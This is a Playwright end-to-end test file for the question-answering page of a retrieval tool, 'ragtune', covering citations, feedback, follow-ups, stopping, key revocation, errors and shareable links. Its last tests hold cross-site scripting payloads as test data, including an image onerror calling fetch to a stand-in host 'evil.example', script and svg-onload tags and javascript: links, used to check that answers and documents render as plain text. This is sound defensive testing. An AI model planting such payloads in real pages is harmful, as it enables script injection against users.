"""*Ask*: answers as they come, citations, what people say of them, and everything that can come between."""

from __future__ import annotations

import json
import threading
from urllib.parse import parse_qs

import pytest
from playwright.sync_api import Page, expect

from data.errors import EngineBusy
from tests.service.conftest import real_server
from tests.service.parts import adapter

pytestmark = pytest.mark.slow

QUESTION = "When was the lighthouse of Orrin built?"


def ask(page: Page, question: str) -> None:
    page.get_by_label("Question").fill(question)
    page.keyboard.press("Enter")


def test_an_answer_of_the_starter_is_cited_and_its_source_opens_at_the_place(server, open_page):
    page = open_page(server)
    page.get_by_text("How to answer").click()
    chosen = page.get_by_label("Adapter")
    expect(chosen).to_have_value("")
    expect(chosen.locator("option").first).to_have_text("the suggested one: reader")  # nobody has to name it
    ask(page, QUESTION)
    turn = page.get_by_role("article")
    expect(turn.locator(".answer-text")).to_contain_text("1842", timeout=60_000)
    expect(turn.get_by_text("reader@1")).to_be_visible()
    turn.get_by_text("Passages that were read").click()
    expect(turn.get_by_text("found by meaning and by words").first).to_be_visible()
    quote = turn.locator("blockquote").first.inner_text()
    turn.get_by_role("button", name="Source 1").first.click()
    source = page.get_by_role("dialog")
    expect(source.locator("mark")).to_have_text(quote)
    expect(source.locator("mark")).to_be_in_viewport()
    page.keyboard.press("Escape")
    expect(source).to_have_count(0)


def test_the_suggestion_is_sent_with_auto_alone_and_never_kept(scripted, indexed, open_page):
    indexed.serves_here = True  # the suggestion is for ragtune's own engine, whose place the script takes
    indexed.store.adapters.add(adapter("reader"))
    page = open_page(scripted, allowed=["status of 409"])
    page.get_by_text("How to answer").click()
    unnamed = page.get_by_label("Adapter").locator("option").first

    def sent():
        with page.expect_request("**/v1/answers") as request:
            ask(page, QUESTION)
        return request.value.post_data_json

    assert sent()["adapter"] == "reader"
    expect(page.locator(".feedback")).to_have_count(1)
    for number, arm in enumerate(("rag", "base"), start=2):
        page.get_by_label("Arm").select_option(arm)
        expect(unnamed).to_have_text("the live one")
        body = sent()
        assert (body["mode"], body["adapter"]) == (arm, None)
        expect(page.locator(".feedback")).to_have_count(number)
    page.get_by_label("Arm").select_option("auto")
    expect(unnamed).to_have_text("the suggested one: reader")
    assert page.evaluate("JSON.parse(sessionStorage.getItem('ragtune.ask')).adapter") is None
    page.reload()
    page.get_by_text("How to answer").click()
    expect(page.get_by_label("Adapter")).to_have_value("")
    assert sent()["adapter"] == "reader"
    expect(page.locator(".feedback")).to_have_count(4)
    page.get_by_label("Largest share").fill("0.1")
    expect(unnamed).to_have_text("the live one")
    page.get_by_role("button", name="New conversation").click()
    assert sent()["adapter"] is None, "what is calibrated is not the reader"
    expect(page.get_by_role("alert").filter(has_text="calibrated")).to_be_visible()


def test_the_span_is_right_behind_characters_beyond_16_bits(make_workspace, generator, tmp_path, open_page):
    text = "The \U0001f98a fox of Varn sleeps. The zoo of Varn was opened in 1907 by Ilse. Bears.\n"
    (tmp_path / "zoo.md").write_text(f"# \U0001f600 Zoo\n\n{text}", encoding="utf-8")
    workspace = make_workspace()
    workspace.ingestor.ingest("default", [tmp_path / "zoo.md"])
    generator.reply = "in 1907 [1]"
    with real_server(workspace) as url:
        page = open_page(url)
        ask(page, "When was the zoo of Varn opened?")
        page.get_by_role("button", name="Source 1").click()
        expect(page.locator("dialog mark")).to_have_text("The zoo of Varn was opened in 1907 by Ilse.")


def test_what_people_say_reaches_the_server(scripted, indexed, open_page):
    page = open_page(scripted)
    ask(page, QUESTION)
    page.get_by_role("button", name="Good").click()
    expect(page.locator("main").get_by_text("the rating is kept")).to_be_visible()
    expect(page.get_by_role("button", name="Good")).to_have_attribute("aria-pressed", "true")
    page.get_by_role("button", name="Correct it").click()
    page.get_by_label("The right answer").fill("1842")
    page.get_by_role("button", name="Send the correction").click()
    expect(page.locator("main").get_by_text("the correction waits")).to_be_visible()
    assert [(row.rating, row.correction) for row in indexed.store.feedback.list()] == [(None, "1842"), (1, "")]
    (pair,), _ = indexed.store.pairs.list("default", "candidate")
    assert (pair.question, pair.answer) == (QUESTION, "1842")


def test_a_follow_up_is_sent_with_what_was_said_before(scripted, generator, open_page):
    page = open_page(scripted)
    ask(page, QUESTION)
    expect(page.locator(".feedback")).to_have_count(1)
    with page.expect_request("**/v1/answers") as sent:
        ask(page, "Who kept it?")
    assert sent.value.post_data_json["history"] == [
        {"role": "user", "content": QUESTION},
        {"role": "assistant", "content": "1842 [1]"},
    ]
    expect(page.locator(".feedback")).to_have_count(2)
    page.reload()
    expect(page.locator(".feedback")).to_have_count(2)
    page.get_by_role("button", name="New conversation").click()
    expect(page.get_by_text("Earlier in this tab (1)")).to_be_visible()
    with page.expect_request("**/v1/answers") as sent:
        ask(page, "Who kept it?")
    assert sent.value.post_data_json["history"] == []
    page.reload()
    page.get_by_text("Earlier in this tab (1)").click()
    page.get_by_role("button", name=QUESTION).click()
    expect(page.locator(".feedback")).to_have_count(2)


def test_stop_ends_the_generation_and_keeps_what_came(scripted, generator, open_page):
    generator.reply, generator.hold = "first second third", threading.Event()
    page = open_page(scripted)
    ask(page, QUESTION)
    expect(page.get_by_role("article")).to_contain_text("first")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("main").get_by_text("stopped before its end")).to_be_visible()
    expect(page.get_by_role("article")).to_contain_text("first")
    generator.hold.set()
    assert generator.closed.wait(10), "the generation goes on"
    page.get_by_role("button", name="Ask again").click()
    expect(page.locator(".answer-text")).to_have_text("first second third")
    expect(page.get_by_role("article")).to_have_count(1)


def test_a_reload_in_the_middle_loses_no_question(scripted, generator, open_page):
    generator.hold = threading.Event()
    page = open_page(scripted)
    ask(page, QUESTION)
    expect(page.get_by_role("article")).to_contain_text("1842")
    page.reload()
    generator.hold.set()
    expect(page.get_by_role("article")).to_contain_text(QUESTION)
    page.get_by_role("button", name="Ask again").click()
    expect(page.locator(".feedback")).to_have_count(1)


def test_a_key_revoked_while_its_page_is_open_costs_no_question(indexed, generator, open_page):
    generator.reply = "1842 [1]"
    (first, key), (_, other) = (indexed.store.keys.create(name) for name in ("old", "new"))
    with real_server(indexed) as url:
        page = open_page(url, allowed=["status of 401"])
        for number, each in enumerate((key, other)):
            page.get_by_role("dialog").get_by_label("Key", exact=True).fill(each)
            page.get_by_role("button", name="Use this key").click()
            if number == 0:
                expect(page.get_by_label("Question")).to_be_visible()
                indexed.store.keys.revoke(first)
                ask(page, QUESTION)
                expect(page.get_by_role("dialog")).to_be_visible()
        expect(page.get_by_role("article")).to_contain_text(QUESTION)
        expect(page.locator(".answer-text")).to_contain_text("1842")


def test_abstention_is_said_plainly(scripted, generator, open_page):
    generator.reply = "I don't know."
    page = open_page(scripted)
    ask(page, "Who painted the moon?")
    expect(page.get_by_text("No answer found in the documents")).to_be_visible()
    expect(page.get_by_role("button", name="Source 1")).to_have_count(0)


@pytest.mark.parametrize(
    ("error", "told"),
    [
        (EngineBusy("The queue is full", got="16 wait"), "Too many questions at once"),
        (RuntimeError("broken"), "Something went wrong that ragtune did not expect"),
    ],
)
def test_a_failing_engine_is_told_in_place(scripted, generator, open_page, error, told):
    generator.error = error
    page = open_page(scripted, allowed=["status of 429", "status of 500"])
    ask(page, QUESTION)
    expect(page.get_by_role("alert").filter(has_text=told)).to_be_visible()
    generator.error = None
    page.get_by_role("button", name="Ask again").click()
    expect(page.locator(".feedback")).to_have_count(1)


def test_a_link_asks_the_same(scripted, open_page):
    page = open_page(scripted, permissions=["clipboard-read", "clipboard-write"])
    page.get_by_text("How to answer").click()
    page.get_by_label("Arm").select_option("rag")
    ask(page, "Who & what = <b>?")
    page.get_by_role("button", name="Copy a link").click()
    expect(page.locator("main").get_by_text("is on the clipboard")).to_be_visible()
    link = page.evaluate("navigator.clipboard.readText()")
    assert link.startswith(f"{scripted}/#/ask?")
    assert parse_qs(link.partition("?")[2]) == {
        "question": ["Who & what = <b>?"], "mode": ["rag"], "collection": ["default"],
    }  # fmt: skip
    other = open_page(scripted, link.partition("/#")[2].join(["#", ""]))
    expect(other.get_by_label("Question")).to_have_value("Who & what = <b>?")
    expect(other.get_by_label("Arm")).to_have_value("rag")


def test_nothing_indexed_says_what_to_do(make_workspace, open_page):
    with real_server(make_workspace()) as url:
        page = open_page(url, allowed=["status of 409"])
        expect(page.get_by_role("link", name="Add documents")).to_be_visible()
        ask(page, QUESTION)
        expect(page.get_by_role("alert").filter(has_text="Nothing is indexed")).to_be_visible()


@pytest.mark.parametrize("text", [" ", "x" * 20_001, "\x00", "\u202egnp.exe <script>alert(1)</script>"])
def test_any_question_is_answered_or_refused_in_place(scripted, open_page, text):
    page = open_page(scripted, allowed=["status of 422"])
    ask(page, text)
    if text.isspace():
        expect(page.get_by_role("article")).to_have_count(0)
    else:
        expect(page.locator(".feedback").or_(page.get_by_role("button", name="Ask again"))).to_be_visible()


def test_two_tabs_have_their_own_conversations(scripted, open_page):
    page = open_page(scripted)
    ask(page, QUESTION)
    expect(page.locator(".feedback")).to_have_count(1)
    other = page.context.new_page()
    other.goto(f"{scripted}/#/ask")
    expect(other.get_by_label("Question")).to_be_visible()
    expect(other.get_by_role("article")).to_have_count(0)


HOSTILE = (
    '<img src=x onerror="fetch(`//evil.example`)"><script>document.title="owned"</script> [1] '
    "javascript:alert(1) [link](javascript:alert(2)) http://127.0.0.1:1/ok \u202eevil\u202c \x1b[31m \x00 "
    "<style>*{display:none}</style>"
)


def test_hostile_answers_and_documents_stay_text(make_workspace, generator, tmp_path, open_page):
    name = "<b onmouseover=alert(1)>bold\u202e.md"
    body = f"# <svg onload=alert(1)>\n\n{HOSTILE} lighthouse of Orrin {{{{7*7}}}} ${{7*7}}\n"
    (tmp_path / name).write_text(body, encoding="utf-8")
    workspace = make_workspace()
    assert workspace.ingestor.ingest("default", [tmp_path / name]).indexed
    generator.reply = HOSTILE
    with real_server(workspace) as url:
        page = open_page(url)
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        ask(page, QUESTION)
        text = page.locator(".answer-text")
        expect(text).to_contain_text('<img src=x onerror="fetch(`//evil.example`)">')
        expect(text).to_contain_text("<style>*{display:none}</style>")
        page.get_by_text("Passages that were read").click()
        page.get_by_role("button", name="Source 1").first.click()
        expect(page.locator("dialog mark")).to_be_visible()
        hrefs = page.eval_on_selector_all("main a, dialog a", "found => found.map(each => each.getAttribute('href'))")
        assert hrefs == ["http://127.0.0.1:1/ok"]
        assert page.locator("img, script:not([type=module]), style, svg").count() == 0
        assert page.title() == "Ask – ragtune"
        shown = json.dumps(page.locator("body").inner_text())
        assert not any(hidden in shown for hidden in ("\\u202e", "\\u0000", "\\u001b"))
